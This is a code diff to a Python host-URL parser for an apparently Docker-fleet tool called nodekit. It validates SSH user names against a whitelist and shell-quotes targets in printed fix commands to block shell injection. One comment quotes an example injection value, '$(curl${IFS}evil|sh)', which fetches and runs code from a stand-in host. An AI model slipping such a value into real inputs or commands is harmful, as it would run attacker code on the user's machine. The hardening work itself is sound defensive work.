@@ -9,6 +9,7 @@ are not caught, that needs the network), ``min_nodes > nnodes``.
 from __future__ import annotations
 
 import re
+import shlex
 from collections.abc import Sequence
 from dataclasses import dataclass
 from pathlib import Path
@@ -23,6 +24,9 @@ SCHEMES = ("ssh", "tcp", "unix")
 # written explicitly in practice; a tcp://host and tcp://host:2376 pair is not taken for one machine).
 DEFAULT_PORTS = {"ssh": 22, "tcp": 2375}
 _FORMS = "write it as ssh://user@host (or ssh://user@host:2222, tcp://host:2376, unix:///var/run/docker.sock)"
+# POSIX's portable user names (no leading '-', which ssh would take for an option). Anything else, such as
+# $(curl${IFS}evil|sh), would be printed inside the Fix commands nodekit tells the user to paste into a shell.
+_USER = re.compile(r"[A-Za-z0-9._][A-Za-z0-9._-]*")
 HOSTS_FIX = 'hosts = ["ssh://user@10.0.0.5", "ssh://user@10.0.0.6"] in nodekit.toml, or --hostfile FILE'
 
 
@@ -50,6 +54,11 @@ class FleetHost:
         user = f"{self.user}@" if self.user else ""
         port = f":{self.port}" if self.port else ""
         return f"{user}{self.hostname}{port}"
+
+    @property
+    def target(self) -> str:
+        """``user@host`` for ssh, quoted for a shell: how a Fix line a user pastes names it."""
+        return shlex.quote(f"{self.user}@{self.hostname}" if self.user else self.hostname)
 
     @property
     def key(self) -> tuple[str, int | None]:
@@ -81,8 +90,12 @@ def parse_host(url: str, rank: int, slots: int | None = None) -> FleetHost:
         return FleetHost(rank=rank, url=raw, scheme="unix", hostname=parts.path, slots=slots)
     hostname = str(parts.hostname)
     problem = hostname_problem(hostname)
-    if parts.username == "" or "@" in (parts.username or ""):
-        raise UsageError(f"host {rank} {url!r} has an empty or odd user name before its '@'", fix=_FORMS)
+    if parts.username is not None and not _USER.fullmatch(parts.username):
+        raise UsageError(
+            f"host {rank} {url!r} has an empty or odd user name before its '@' (a user name is letters, digits, "
+            "'.', '_' and '-', not first)",
+            fix=_FORMS,
+        )
     extra = parts.password is not None or parts.path not in ("", "/") or parts.query or parts.fragment
     if problem is not None or extra or (parts.scheme == "tcp" and parts.username):
         why = problem or "has a password, a path or a query, which a Docker endpoint does not take"
